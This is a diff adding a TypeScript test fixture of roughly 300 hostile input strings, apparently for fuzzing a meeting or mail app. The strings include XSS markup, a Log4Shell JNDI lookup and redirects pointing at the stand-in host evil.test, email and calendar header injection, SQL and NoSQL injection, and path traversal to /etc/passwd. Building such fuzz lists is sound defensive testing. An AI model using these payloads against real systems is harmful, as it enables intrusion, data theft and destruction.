@@ -1,0 +1,152 @@
+/** Where everything in these payloads would lead: a name that nobody has (RFC 2606). */
+export const EVIL = 'evil.test'
+
+const MARKUP = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  `<img src="https://${EVIL}/p.png">`,
+  '<svg onload=alert(1)>',
+  `<a href="https://${EVIL}">tap here</a>`,
+  `<form action="https://${EVIL}"><input name=a><button>Yes</button></form>`,
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<style>*{display:none}</style>',
+  '<!--[if mso]><style>*{display:none}</style><![endif]-->',
+  '--><script>alert(1)</script><!--',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '"><script>alert(1)</script>',
+  "' onmouseover='alert(1)",
+  '" autofocus onfocus="alert(1)',
+  '<details open ontoggle=alert(1)>',
+  `<base href="https://${EVIL}/">`,
+  `<meta http-equiv="refresh" content="0;url=https://${EVIL}">`,
+  `<link rel=stylesheet href="//${EVIL}/x.css">`,
+  '<math><mtext></mtext><script>alert(1)</script></math>',
+  '<template><script>alert(1)</script></template>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '{{constructor.constructor("alert(1)")()}}',
+  '$' + '{alert(1)}',
+  '<%= 7*7 %>',
+]
+
+const LINKS = [
+  `https://${EVIL}/a`,
+  `http://${EVIL}`,
+  `HTTPS://${EVIL.toUpperCase()}/A`,
+  `www.${EVIL}`,
+  `${EVIL}/path`,
+  `//${EVIL}/x`,
+  `bob@${EVIL}`,
+  `mailto:bob@${EVIL}`,
+  'tel:+491234567',
+  'sms:+491234567',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  `https://talk.example.org.${EVIL}/decide`,
+  `https://talk.example.org@${EVIL}/decide`,
+  `ht\u200btps://${EVIL}`,
+  `https:/\u2060/${EVIL}`,
+  `https://${EVIL.replace('.', '\u3002')}`,
+  `https\uff1a//${EVIL}`,
+  '192.0.2.7/login',
+  'http://[2001:db8::1]/x',
+  `xn--80ak6aa92e.${EVIL}`,
+  `file:///etc/passwd`,
+  `https://${EVIL}/?q="><script>alert(1)</script>`,
+]
+
+const HEADERS = [
+  '\r\nBcc: eve@evil.test',
+  '\nBcc: eve@evil.test',
+  '\r\n\r\n<html>another body</html>',
+  '\rSubject: forged',
+  '\u0085Bcc: eve@evil.test',
+  '\u2028Bcc: eve@evil.test',
+  '=?utf-8?B?QmNjOiBldmVAZXZpbC50ZXN0?=',
+  '=?utf-8?Q?=0D=0ABcc:_eve@evil.test?=',
+  ', eve@evil.test',
+  '; eve@evil.test',
+  '" <eve@evil.test>, "',
+  'Bob" <eve@evil.test>',
+  '<eve@evil.test>',
+  '(comment) eve@evil.test',
+  'undisclosed-recipients:;',
+  '--_NmP-Part_1--\r\nContent-Type: text/html',
+  '.\r\nQUIT\r\n',
+  '-- \nYes:\nhttps://talk.example.org.evil.test/decide',
+]
+
+const CALENDAR = [
+  'Bob";PARTSTAT=ACCEPTED;X="',
+  'Bob;CN=Eve:mailto:eve@evil.test',
+  'Bob\r\nATTENDEE:mailto:eve@evil.test',
+  'Bob\nEND:VEVENT\nBEGIN:VEVENT',
+  'Bob\\nEND:VEVENT',
+  'Bob,Eve',
+  "Bob^nEve^'Bob^^",
+  'Bob\\',
+  'Bob\\,\\;\\n',
+  ':;,="^',
+]
+
+const LETTERS = [
+  '\u202etset.live\u202c',
+  '\u2066\u2067\u2068\u2069',
+  'שלום 10:15',
+  'مرحبا (9:15)',
+  '\u200f\u200e\u061c',
+  'Z\u0351\u036b\u0343a\u0363\u0308l\u034e\u0316g\u0328\u0334o\u0322',
+  'a'.repeat(10_000),
+  'é'.repeat(9_999),
+  '👩‍👩‍👧‍👦'.repeat(300),
+  '\u{e0041}\u{e0042}',
+  '\ufeffBob\ufeff',
+  '\u3164',
+  '\u00ad\u00ad',
+  ' \t \n ',
+  'ﷺ'.repeat(50),
+  'Ⅷ①ﬁ',
+  'İıſK',
+  '𝕭𝖔𝖇',
+  '\u0000Bob',
+  'Bob\u0007',
+  'Bob\u001b[31m',
+  '\ud800',
+  'x\udfffy',
+  '%00%0d%0a',
+  '\\u0000',
+]
+
+const FILE_NAMES = [
+  '../../etc/passwd',
+  '..\\..\\boot.ini',
+  'con.pdf',
+  'cv.pdf\u202efdp.exe',
+  'cv.pdf\r\nContent-Type: text/html',
+  'cv";filename="evil.html',
+  'résumé 日本.pdf',
+  `${'n'.repeat(300)}.pdf`,
+  '.pdf',
+  '<img src=x onerror=alert(1)>.pdf',
+]
+
+const QUERIES = [
+  "' OR '1'='1",
+  "'; DROP TABLE screening; --",
+  '$' + '{jndi:ldap://evil.test/a}',
+  '{"$ne":null}',
+  '__proto__',
+  'constructor',
+  'NaN',
+  'null',
+]
+
+const PLAIN = [...MARKUP, ...LINKS, ...HEADERS, ...CALENDAR, ...LETTERS, ...FILE_NAMES, ...QUERIES]
+
+/** Three hundred things somebody types to make trouble: each by itself, and then each in a sentence and beside another. */
+export const NASTY: readonly string[] = [
+  ...PLAIN,
+  ...PLAIN.map((payload) => `Hello, ${payload} and so on`),
+  ...PLAIN.map((payload, n) => `${payload} ${PLAIN[(n * 7 + 3) % PLAIN.length]}`),
+].slice(0, 300)
